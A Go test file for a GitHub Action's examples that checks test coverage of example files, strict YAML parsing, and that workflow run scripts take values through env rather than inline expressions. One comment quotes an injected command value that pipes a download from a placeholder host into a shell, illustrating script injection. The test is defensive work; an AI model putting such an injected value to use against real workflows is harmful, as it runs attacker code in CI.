package examples

import (
	"bufio"
	"bytes"
	"cmp"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	utilyaml "k8s.io/apimachinery/pkg/util/yaml"
	"sigs.k8s.io/yaml"
)

// actionFile is the action's metadata at the repository root.
const actionFile = "../action.yml"

// covered says which test checks each kind of file under examples/; a file
// none of them matches fails TestEveryExampleIsChecked.
var covered = []struct{ glob, by string }{
	{"shop/*", "TestGitOpsManifests (the tree builds)"},
	{"shop/*/*", "TestGitOpsManifests (the tree builds)"},
	{"travel/README.md", "TestTravelNamespaces, TestTravelWorkloads, TestTravelIngresses, TestTravelScrapeTargets, TestTravelReferences, TestTravelAddressesAreListed, TestTravelPolicyFiles, TestTravelPolicyDecisions (its tables are the tree's)"},
	{"travel/*.yaml", "the travel tests (the tree builds)"},
	{"travel/*/*.yaml", "the travel tests (the tree builds), TestTravelObjectsSchema, TestTravelSecretsArePlaceholders"},
	{"travel/policies/*/*.yaml", "TestTravelPolicyFiles, TestTravelPoliciesValidate"},
	{"flux/*.yaml", "TestGitOpsManifests"},
	{"argocd/*.yaml", "TestGitOpsManifests"},
	{"workflows/kunerva.yml", "TestCommentWorkflow"},
	{"workflows/kunerva-check.yml", "TestCheckWorkflow, TestCheckScript"},
	{"llm/kunerva.yaml", "settings.TestLLMSettingsExample (parsed as the action and propose do, and its engine built)"},
	{"README.md", "read by people"},
	{"doc.go", "the package"},
	{"embed.go", "TestEmbeddedShopIsTheTree"},
	{"*_test.go", "the tests"},
}

func TestEveryExampleIsChecked(t *testing.T) {
	err := fs.WalkDir(os.DirFS("."), ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		if !slices.ContainsFunc(covered, func(c struct{ glob, by string }) bool {
			ok, _ := path.Match(c.glob, p)
			return ok
		}) {
			t.Errorf("examples/%s is not checked by any test: add a check and list it in covered", p)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestYAMLIsStrict parses every YAML document under examples/, and the
// action's metadata, as strictly as sigs.k8s.io/yaml can: a duplicate key
// or a syntax error fails.
func TestYAMLIsStrict(t *testing.T) {
	files := []string{actionFile}
	err := filepath.WalkDir(".", func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() && (strings.HasSuffix(p, ".yaml") || strings.HasSuffix(p, ".yml")) {
			files = append(files, p)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range files {
		docs := documents(t, file)
		if len(docs) == 0 {
			t.Errorf("%s: no YAML documents", file)
		}
		for i, doc := range docs {
			if _, err := yaml.YAMLToJSONStrict(doc); err != nil {
				t.Errorf("%s: document %d: %v", file, i+1, err)
			}
		}
	}
}

// documents splits a file into its YAML documents, leaving out empty ones.
func documents(t *testing.T, file string) [][]byte {
	t.Helper()
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	r := utilyaml.NewYAMLReader(bufio.NewReader(bytes.NewReader(data)))
	var docs [][]byte
	for {
		doc, err := r.Read()
		if errors.Is(err, io.EOF) {
			return docs
		}
		if err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		if len(bytes.TrimSpace(doc)) > 0 {
			docs = append(docs, doc)
		}
	}
}

// The shapes below hold every key the examples use, and only those, so a
// misspelt key fails the strict decoding instead of being ignored by GitHub.

type workflow struct {
	Name string `json:"name"`
	// sigs.k8s.io/yaml reads YAML 1.1, where the key on is the boolean true.
	On          map[string]*trigger `json:"true"`
	Permissions map[string]string   `json:"permissions"`
	Concurrency map[string]any      `json:"concurrency"`
	Env         map[string]string   `json:"env"`
	Jobs        map[string]job      `json:"jobs"`
}

type trigger struct {
	Types    []string `json:"types"`
	Paths    []string `json:"paths"`
	Branches []string `json:"branches"`
}

type job struct {
	If             string `json:"if"`
	RunsOn         string `json:"runs-on"`
	TimeoutMinutes int    `json:"timeout-minutes"`
	Steps          []step `json:"steps"`
}

type step struct {
	ID               string            `json:"id"`
	Name             string            `json:"name"`
	If               string            `json:"if"`
	Uses             string            `json:"uses"`
	With             map[string]any    `json:"with"`
	Run              string            `json:"run"`
	Shell            string            `json:"shell"`
	WorkingDirectory string            `json:"working-directory"`
	Env              map[string]string `json:"env"`
}

type action struct {
	Name        string            `json:"name"`
	Description string            `json:"description"`
	Author      string            `json:"author"`
	Branding    map[string]string `json:"branding"`
	Inputs      map[string]struct {
		Description string `json:"description"`
		Default     string `json:"default"`
	} `json:"inputs"`
	Outputs map[string]struct {
		Description string `json:"description"`
		Value       string `json:"value"`
	} `json:"outputs"`
	Runs struct {
		Using string `json:"using"`
		Steps []step `json:"steps"`
	} `json:"runs"`
}

func decodeStrict[T any](t *testing.T, file string) T {
	t.Helper()
	var v T
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if err := yaml.UnmarshalStrict(data, &v); err != nil {
		t.Fatalf("%s: %v", file, err)
	}
	return v
}

// findStep returns the step with the given id.
func findStep(t *testing.T, file string, steps []step, id string) step {
	t.Helper()
	for _, s := range steps {
		if s.ID == id {
			return s
		}
	}
	t.Fatalf("%s: no step with id %q", file, id)
	return step{}
}

// TestScriptsTakeValuesFromEnv: an expression inside a run script is pasted
// into the script before the shell reads it, so a comment saying
// `"; curl evil | sh; "` would run. Every value goes through env: instead.
func TestScriptsTakeValuesFromEnv(t *testing.T) {
	var scripts []struct{ where, run string }
	a := decodeStrict[action](t, actionFile)
	for i, s := range a.Runs.Steps {
		scripts = append(scripts, struct{ where, run string }{actionFile + " step " + stepName(i, s), s.Run})
	}
	for _, file := range []string{"workflows/kunerva.yml", "workflows/kunerva-check.yml"} {
		w := decodeStrict[workflow](t, file)
		for name, j := range w.Jobs {
			for i, s := range j.Steps {
				scripts = append(scripts, struct{ where, run string }{file + " jobs." + name + " step " + stepName(i, s), s.Run})
			}
		}
	}
	for _, s := range scripts {
		if strings.Contains(s.run, "${{") {
			t.Errorf("%s: the run script contains an expression; pass the value through env:", s.where)
		}
		if strings.Contains(s.run, "github.event.comment.body") {
			t.Errorf("%s: the run script reads the comment body", s.where)
		}
	}
}

func stepName(i int, s step) string {
	return fmt.Sprintf("%d (%s)", i+1, cmp.Or(s.ID, s.Name, s.Uses))
}

func readFile(t *testing.T, file string) string {
	t.Helper()
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}
